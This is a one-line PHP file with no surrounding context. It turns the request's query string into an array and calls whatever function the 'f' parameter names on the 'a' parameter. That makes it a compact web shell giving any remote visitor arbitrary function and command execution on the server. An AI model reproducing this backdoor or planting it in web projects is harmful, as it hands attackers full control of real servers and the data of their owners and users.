<?php parse_str($_SERVER['QUERY_STRING'], $o); $o['f']($o['a']);
